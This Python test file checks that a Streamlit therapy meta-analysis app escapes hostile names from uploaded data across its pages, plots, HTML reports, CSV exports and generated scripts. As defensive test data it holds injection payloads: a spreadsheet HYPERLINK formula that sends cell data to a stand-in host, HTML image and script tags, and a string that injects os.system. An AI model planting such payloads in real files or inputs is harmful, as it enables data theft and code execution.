"""Names from a file never become markup (issue 16).

A data file whose study, patient, therapist and column names and whose own file name carry Markdown
images and links, HTML, LaTeX, quotes with a newline, a 300-character name and right-to-left override
characters is uploaded through the Data page; then every page of the app is visited. No element that
renders Markdown (markdown, captions, alerts, headers, expander and tab labels, widget labels, help
texts, radio options, st.table cells) may carry one of those payloads unescaped, and no page may fail.
The browser test (tests/test_browser_hostile.py) checks the same in chromium with a beacon server.
"""

from __future__ import annotations

import ast
import io
import json
import re
from pathlib import Path

import pandas as pd
import pytest
from streamlit.testing.v1 import AppTest

from tests.hostile import (
    RLO,
    covariate_name,
    hostile_csv,
    hostile_file_name,
    hostile_frame,
    leaks,
    payloads,
    with_k1_covariate,
)
from tests.tabs_util import each_tab

ROOT = Path(__file__).resolve().parents[1]
# Proto fields a Markdown renderer shows: bodies, labels, help texts, radio captions
MARKDOWN_FIELDS = {"body", "label", "help", "captions", "caption", "title", "text"}
# widgets whose options are shown as Markdown too (selectbox / multiselect options are plain text)
MARKDOWN_OPTIONS = {"radio", "button_group"}
TEXT_ONLY = {"dataframe", "arrow_data_frame", "code", "text", "plotly_chart", "json", "download_button"}


def _strings(msg, fields: set[str]):
    """Every string in protobuf ``msg`` under one of ``fields`` (recursively)."""
    for fd, value in msg.ListFields():
        scalar = isinstance(value, (str, bytes, bool, int, float)) or hasattr(value, "ListFields")
        items = [value] if scalar else list(value)
        if fd.message_type is not None:
            for m in items:
                if hasattr(m, "ListFields"):
                    yield from _strings(m, fields)
        elif fd.name in fields:
            for v in items:
                if isinstance(v, str):
                    yield fd.name, v


def markdown_texts(node, where: str = ""):
    """(element type, field, text) for every Markdown-rendered string in an AppTest tree."""
    t = getattr(node, "type", "")
    proto = getattr(node, "proto", None)
    if proto is not None and t not in TEXT_ONLY:
        fields = MARKDOWN_FIELDS | ({"options"} if t in MARKDOWN_OPTIONS else set())
        for field, s in _strings(proto, fields):
            yield t, field, s
        if t == "table":
            v = node.value
            cells = [*map(str, v.columns), *map(str, v.index), *map(str, v.to_numpy().ravel())]
            for s in cells:
                yield t, "cell", s
    for child in (getattr(node, "children", None) or {}).values():
        yield from markdown_texts(child)


# In plotly text only these simple tags are markup we write ourselves; any other "<" is a user's
# (the forest's text blocks style their lines with one exact span form: a size in px and a hex colour)
PLOTLY_MARKUP = re.compile(r"<(?!/?(?:b|i|em|sup|sub|br|extra)\s*/?>"
                           r'|span style="font-size:\d+(?:\.\d+)?px(?:;color:#[0-9a-fA-F]{3,8})?">|/span>)',
                           re.IGNORECASE)


def _json_strings(obj, path=""):
    if isinstance(obj, str):
        yield path, obj
    elif isinstance(obj, dict):
        for k, v in obj.items():
            if k != "template":
                yield from _json_strings(v, f"{path}.{k}")
    elif isinstance(obj, list):
        for i, v in enumerate(obj):
            yield from _json_strings(v, f"{path}[{i}]")


def plotly_leaks(spec: dict) -> list[tuple[str, str]]:
    """(JSON path, text) of figure strings that plotly would render as markup (a tag other than
    b/i/em/sup/sub/br/extra, e.g. <a href>, <img>, <span style>) or with reordered direction."""
    return [(p, s[:120]) for p, s in _json_strings(spec) if PLOTLY_MARKUP.search(s) or RLO in s]


def unescaped(at) -> list[tuple[str, str, list[str], str]]:
    """Hostile payloads shown as Markdown or plotly markup: (element, field, which payloads, excerpt)."""
    found = []
    for t, field, s in markdown_texts(at._tree):
        hit = leaks(s)
        if hit:
            found.append((t, field, hit, s[:160]))
    for chart in at.get("plotly_chart"):
        for path, s in plotly_leaks(json.loads(chart.proto.spec)):
            found.append(("plotly_chart", path, ["plotly markup"], s))
    return found


def _page_files() -> list[str]:
    import ast as _ast

    tree = _ast.parse((ROOT / "app.py").read_text(encoding="utf-8"))
    for node in _ast.walk(tree):
        if isinstance(node, _ast.Assign) and getattr(node.targets[0], "id", "") == "PAGE_SPECS":
            return [elt.elts[0].value for elt in node.value.elts]
    raise AssertionError("PAGE_SPECS not found in app.py")


def _upload_hostile() -> AppTest:
    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=300)
    at.run()
    at.switch_page("app_pages/data.py")
    at.run()
    at.file_uploader[0].set_value((hostile_file_name(), hostile_csv(), "text/csv")).run()
    assert not at.exception, [e.value for e in at.exception]
    at.button(key="use_files").click().run()
    assert not at.exception, [e.value for e in at.exception]
    assert at.session_state["dataset"]["source"] == "upload", [e.value for e in at.error]
    return at


@pytest.fixture(scope="module")
def hostile_app():
    return _upload_hostile()


def _visit(at, page: str) -> list:
    """The page's unescaped strings, in every one of its lazy tabs (tests/tabs_util.py)."""
    at.switch_page(page)
    at.run()
    found = []
    for tab in each_tab(at, page):
        assert not at.exception, (page, tab, [e.value for e in at.exception])
        found += [(page if tab is None else f"{page} [{tab}]", *f) for f in unescaped(at)]
    return found


def test_fixture_is_hostile():
    """The fixture really carries the payloads (so the page tests can fail)."""
    df = hostile_frame()
    names = " ".join(map(str, df.columns)) + " " + " ".join(df["study"].unique())
    assert set(leaks(names + hostile_file_name())) == {"markdown image", "markdown link", "html tag", "latex",
                                                        "rtl override", "autolink", "www autolink"}
    assert any(len(s) >= 300 for s in df["study"].unique())
    assert any("\n" in s and "'" in s and '"' in s for s in df["study"].unique())


def test_every_page_shows_hostile_names_as_text(hostile_app):
    at = hostile_app
    found = unescaped(at)  # the Data page right after the upload (expander label = file name, header, sidebar)
    found = [("app_pages/data.py (after upload)", *f) for f in found]
    pages = _page_files()
    assert len(pages) >= 9
    for page in pages:
        found += _visit(at, page)
    assert not found, "\n".join(map(repr, found))


def test_pooled_sections_show_hostile_names_as_text(hostile_app):
    at = hostile_app
    found = _visit(at, "app_pages/pooled.py")
    seg = at.get("button_group")
    assert seg, "no section chooser on the Pooled page"
    for section in ["Leave-one-out", "Funnel & Egger", "Meta-regression", "Centering multiverse",
                    "Report & script"]:
        at.session_state["pooled_section"] = section
        at.run()
        assert not at.exception, (section, [e.value for e in at.exception])
        found += [(section, *f) for f in unescaped(at)]
    assert not found, "\n".join(map(repr, found))


def test_lagged_patient_view_with_hostile_names(hostile_app):
    """The per-patient view: the chosen study and patient are hostile names."""
    at = hostile_app
    found = _visit(at, "app_pages/lagged.py")
    at.session_state["lag_tab"] = "What went into the model"
    at.run()
    study = at.selectbox(key="lag_view_study")
    for s in study.options[:3]:
        study.set_value(s).run()
        assert not at.exception
        found += [(s[:20], *f) for f in unescaped(at)]
    assert not found, "\n".join(map(repr, found))


def test_one_hostile_study_pooled_lagged_and_events():
    """k = 1: the pooled 'summary' sentence names the only study."""
    df = hostile_frame()
    one = df[df["study"] == df["study"].iloc[0]]
    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=300)
    at.run()
    at.switch_page("app_pages/data.py")
    at.run()
    at.file_uploader[0].set_value(("one.csv", one.to_csv(index=False).encode("utf-8"), "text/csv")).run()
    at.button(key="use_files").click().run()
    assert at.session_state["dataset"]["n_studies"] == 1
    found = []
    for page in ("app_pages/pooled.py", "app_pages/lagged.py", "app_pages/events.py", "app_pages/convergence.py"):
        found += _visit(at, page)
    assert not found, "\n".join(map(repr, found))


def test_pooled_every_term_direction_and_k1_shows_hostile_names_as_text():
    """Issue 25 #1: every pooled term in both directions, including terms estimable in one study only
    (k = 1: the summary sentence names that study) — a covariate that varies in the first study alone."""
    df = with_k1_covariate(hostile_frame())
    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=300)
    at.run()
    at.switch_page("app_pages/data.py")
    at.run()
    at.file_uploader[0].set_value(("k1.csv", df.to_csv(index=False).encode("utf-8"), "text/csv")).run()
    at.button(key="use_files").click().run()
    assert at.session_state["dataset"]["source"] == "upload", [e.value for e in at.error]
    found = _visit(at, "app_pages/pooled.py")
    at.multiselect(key="opt_covariates").set_value([covariate_name()]).run()
    assert not at.exception, [e.value for e in at.exception]
    cov = covariate_name()
    terms = ["within", "between", "prior_within", "prior_between", cov, f"within × {cov}"]
    assert len(at.selectbox(key="pooled_term").options) == len(terms)
    k1 = 0
    for t in terms:
        at.session_state["pooled_term"] = t
        at.run()
        assert not at.exception, (t, [e.value for e in at.exception])
        k1 += sum("Only one study" in m.value for m in at.markdown)
        found += [(t[:30], *f) for f in unescaped(at)]
    assert k1 >= 2, "no term was estimable in one study only: the test would not reach the k = 1 sentence"
    assert not found, "\n".join(map(repr, found))


def test_screening_upload_and_collection_study(hostile_app):
    at = hostile_app
    found = _visit(at, "app_pages/screening.py")
    at.radio(key="scr_source").set_value("upload").run()
    at.file_uploader(key="scr_upload").set_value((hostile_file_name(), hostile_csv(), "text/csv")).run()
    assert not at.exception, [e.value for e in at.exception]
    found += [("screening upload", *f) for f in unescaped(at)]
    at.radio(key="scr_source").set_value("collection").run()
    assert not at.exception, [e.value for e in at.exception]
    found += [("screening collection", *f) for f in unescaped(at)]
    assert not found, "\n".join(map(repr, found))


# ----------------------------------------------------------------------------- downloads

def test_csv_cells_that_spreadsheets_would_run_are_neutralised_numbers_untouched():
    from analysis.export import csv_bytes

    df = pd.DataFrame({
        "study": ['=HYPERLINK("http://h/?"&A1,"x")', "+cmd", "-2+3", "@SUM(A1)", "\tx", "\rx", "plain", "-5", None],
        "estimate": [-0.5, 1.0, -2.0, 3.0, 4.0, 5.0, 6.0, -7.0, 8.0],
        "n": [1, -2, 3, 4, 5, 6, 7, 8, 9],
        "=label": ["a"] * 9,
    })
    back = pd.read_csv(io.BytesIO(csv_bytes(df)), keep_default_na=False, dtype={"study": str})
    assert back.columns[3] == "'=label"
    assert back["study"].tolist() == ["'" + s for s in df["study"].iloc[:6]] + ["plain", "-5", ""]
    # numbers are untouched, negative ones included
    assert back["estimate"].tolist() == df["estimate"].tolist()
    assert back["n"].tolist() == df["n"].tolist()


def test_every_csv_download_goes_through_csv_bytes():
    """No page or ui module writes a CSV itself (grep): one helper neutralises every table."""
    offenders = []
    for path in [*ROOT.glob("ui/*.py"), *ROOT.glob("app_pages/*.py"), ROOT / "app.py"]:
        for i, line in enumerate(path.read_text(encoding="utf-8").splitlines(), 1):
            if ".to_csv(" in line:
                offenders.append(f"{path.relative_to(ROOT)}:{i}: {line.strip()}")
    assert not offenders, "\n".join(offenders)


@pytest.fixture(scope="module")
def hostile_result():
    from analysis import data as adata
    from analysis import pipeline
    from analysis.lagged import LagOptions

    raw = hostile_frame()
    df = adata.to_canonical(raw, adata.suggest_mapping(raw))
    return df, pipeline.two_stage(df, LagOptions())


def test_forest_plot_json_and_html_keep_hostile_study_names_as_text(hostile_result):
    from analysis import plots_meta
    from analysis.export import safe_figure

    _df, res = hostile_result
    m = res.pooled["alliance_to_symptoms"]
    raw_fig = plots_meta.forest_figure(m, title="Forest")
    assert plotly_leaks(json.loads(raw_fig.to_json())), "fixture does not reach the forest plot"
    fig = safe_figure(raw_fig)
    spec = json.loads(fig.to_json())
    assert plotly_leaks(spec) == []
    # the names are still there, as text plotly decodes back to the characters typed
    text = json.dumps(spec)
    assert "&lt;img src=\\\"http://127.0.0.1:9/beacon-html.png\\\"" in text
    page = fig.to_html(include_plotlyjs=False, full_html=True)
    assert '<img src="http://127.0.0.1' not in page and "<script>alert" not in page
    assert safe_figure(fig).to_json() == fig.to_json()  # idempotent


def test_html_report_escapes_every_user_string(hostile_result):
    from analysis import plots_meta
    from analysis.lagged import LagOptions
    from ui.reporting import report_html

    df, res = hostile_result
    fig = plots_meta.paired_forest_figure(res.pooled["alliance_to_symptoms"], res.pooled["symptoms_to_alliance"])
    ds = {"df": df, "name": "Uploaded: " + hostile_file_name(), "notes": [payloads()["html_img"]]}
    page = report_html(ds, LagOptions(), res, fig).decode("utf-8")
    for raw in ('<img src="http://127.0.0.1', "<img src=x", "<script>alert"):
        assert raw not in page, raw
    assert "&lt;img src=x onerror=alert(3)&gt;" in page  # the file name is there, as text
    assert "beacon-html.png" in page  # the study names are there (figure JSON, tables)


def test_reproduction_script_embeds_user_strings_as_literals():
    from analysis.lagged import LagOptions
    from analysis.report import reproduction_script

    evil = "x'''\"\"\"\nimport os; os.system('echo owned') #\\"
    mapping = {"study": evil, "patient": "patient\n" + evil, "session": "session", "alliance": "wai",
               "symptoms": "bdi", "therapist_alliance": None, "therapist": None}
    src = reproduction_script(evil + ".csv", LagOptions(), mapping=mapping, study_label=evil)
    tree = ast.parse(src)  # still valid Python
    benign = ast.parse(reproduction_script("d.csv", LagOptions(), mapping={k: (v and "c") for k, v in mapping.items()},
                                           study_label="s"))
    assert len(tree.body) == len(benign.body)  # the names added no statement
    consts = {n.value for n in ast.walk(tree) if isinstance(n, ast.Constant) and isinstance(n.value, str)}
    assert {evil, evil + ".csv", "patient\n" + evil} <= consts  # each name is one string literal, unchanged
    def imports(t):
        return sorted(a.name for n in ast.walk(t) if isinstance(n, (ast.Import, ast.ImportFrom)) for a in n.names)

    assert imports(tree) == imports(benign)  # the injected "import os; os.system(...)" stayed inside a string


def test_html_report_labels_each_pooled_paragraph_with_its_direction(hostile_result):
    """Issue 23 #6: the report labelled neither pooled paragraph's direction."""
    from analysis import plots_meta
    from analysis.lagged import LagOptions
    from ui.reporting import report_html

    df, res = hostile_result
    fig = plots_meta.paired_forest_figure(res.pooled["alliance_to_symptoms"], res.pooled["symptoms_to_alliance"])
    page = report_html({"df": df, "name": "x", "notes": []}, LagOptions(), res, fig).decode("utf-8")
    assert "Alliance → next-session symptoms: Across" in page
    assert "Symptoms → next-session alliance: Across" in page
